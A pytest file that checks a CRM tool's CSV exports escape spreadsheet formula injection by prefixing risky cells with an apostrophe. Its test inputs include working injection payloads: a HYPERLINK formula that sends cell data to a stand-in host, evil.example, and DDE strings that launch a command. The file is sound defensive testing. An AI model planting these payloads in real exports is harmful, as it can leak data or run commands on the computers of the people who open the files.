"""CSV files crmbot writes for people cannot carry a formula into a spreadsheet.

A cell that begins with `=`, `+`, `-` or `@` (or a tab or carriage return) is run as a
formula by Excel, LibreOffice and Google Sheets. Every CSV crmbot writes (the scores
export, an import's report of rejected rows) goes through `crmbot.core.spreadsheet`,
which prefixes such a text cell with `'` (OWASP's advice); numbers, also negative ones,
stay numbers.
"""

from __future__ import annotations

import csv
from collections.abc import Iterator
from datetime import date
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from crmbot.cli.main import app
from crmbot.core.config import get_settings
from crmbot.core.db import connect
from crmbot.ingest import import_file
from tests.support.scored_data import Account, add_customers, add_run

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def live_formulas(rows: list[list[str]]) -> list[str]:
    """The cells a spreadsheet would read as a formula."""
    return [
        cell
        for row in rows
        for cell in row
        if cell.lstrip(" \n")[:1] in TRIGGERS or cell[:1] in TRIGGERS
        if not _is_number(cell)
    ]


def read_rows(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("  =1+1", "'  =1+1"),
        ("\n=1+1", "'\n=1+1"),
        ("-", "'-"),
        ("--1", "'--1"),
        ("-Infinity", "'-Infinity"),
        ("+44 20 7946 0958", "'+44 20 7946 0958"),
        ("-1,234.50", "'-1,234.50"),
        # Text that is a plain number cannot run anything: left as the number it is.
        ("-12.5", "-12.5"),
        ("+3", "+3"),
        ("-1e5", "-1e5"),
        (".5", ".5"),
        # Numbers stay numbers.
        (-12.5, -12.5),
        (-3, -3),
        (Decimal("-1.50"), Decimal("-1.50")),
        (0, 0),
        # Everything else is untouched.
        ("Ann O'Brien", "Ann O'Brien"),
        ("a=b", "a=b"),
        ("2026-06-30", "2026-06-30"),
        ("C000123", "C000123"),
        ("", ""),
        (None, None),
        (date(2026, 6, 30), date(2026, 6, 30)),
    ],
)
def test_a_cell_that_would_be_a_formula_is_written_as_text(value: Any, written: Any) -> None:
    from crmbot.core.spreadsheet import safe_cell

    assert safe_cell(value) == written
    assert type(safe_cell(value)) is type(written)


def test_the_rejected_rows_report_carries_no_formula(engine: Any, tmp_path: Path) -> None:
    customers = tmp_path / "customers.csv"
    with customers.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["customer_id", "name", "email", "signed_up_at"])
        for i, hostile in enumerate(HOSTILE):
            writer.writerow([f"C{i}", hostile, f"{hostile}@example", "2026-01-05"])
            writer.writerow([f"D{i}", "Ann", "ann@example.com", hostile])
    products = tmp_path / "products.csv"
    products.write_text("product_id,name,price\nP1,=1+1,-12.5\nP2,Tea,@SUM(1)\n")
    reports = [
        import_file(engine, "customers", customers, report_path=tmp_path / "c.rejected.csv"),
        import_file(engine, "products", products, report_path=tmp_path / "p.rejected.csv"),
    ]
    assert all(report.rejected for report in reports)

    rows = read_rows(tmp_path / "c.rejected.csv") + read_rows(tmp_path / "p.rejected.csv")
    assert live_formulas(rows) == []
    values = [row[3] for row in rows[1:]]
    assert "'=cmd|' /C calc'!A0@example" in values  # escaped, not dropped
    negative = next(row for row in rows if row[1] == "price")
    assert negative[2] == "must not be negative" and negative[3] == "-12.5"  # still a number


@pytest.fixture
def crmbot_on(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[str]:
    url = f"sqlite:///{tmp_path / 'crm.db'}"
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("DATABASE_URL", url)
    get_settings.cache_clear()
    yield url
    get_settings.cache_clear()


def test_the_scores_export_carries_no_formula(crmbot_on: str, tmp_path: Path) -> None:
    engine = connect(crmbot_on)
    accounts = [
        Account(customer_id=hostile, name="Mallory", churn_risk=0.5, clv=100.0, reason=hostile)
        for hostile in HOSTILE
    ]
    accounts.append(Account(customer_id="C000123", name="Ann", churn_risk=0.2, clv=-12.5))
    add_run(engine, accounts, add_customers(engine, accounts), as_of=date(2026, 6, 30))
    engine.dispose()

    target = tmp_path / "scores.csv"
    result = CliRunner().invoke(app, ["scores", "export", str(target)])
    assert result.exit_code == 0, result.output
    rows = read_rows(target)
    assert len(rows) == len(accounts) + 1
    assert live_formulas(rows) == []
    header = rows[0]
    by_id = {row[0]: dict(zip(header, row, strict=True)) for row in rows[1:]}
    assert by_id["'=cmd|' /C calc'!A0"]["churn_reasons"] == "'=cmd|' /C calc'!A0; spend down 40%"
    assert by_id["C000123"]["clv"] == "-12.5"  # a negative number stays a number
    assert by_id["C000123"]["value_at_risk"] == "-2.5"
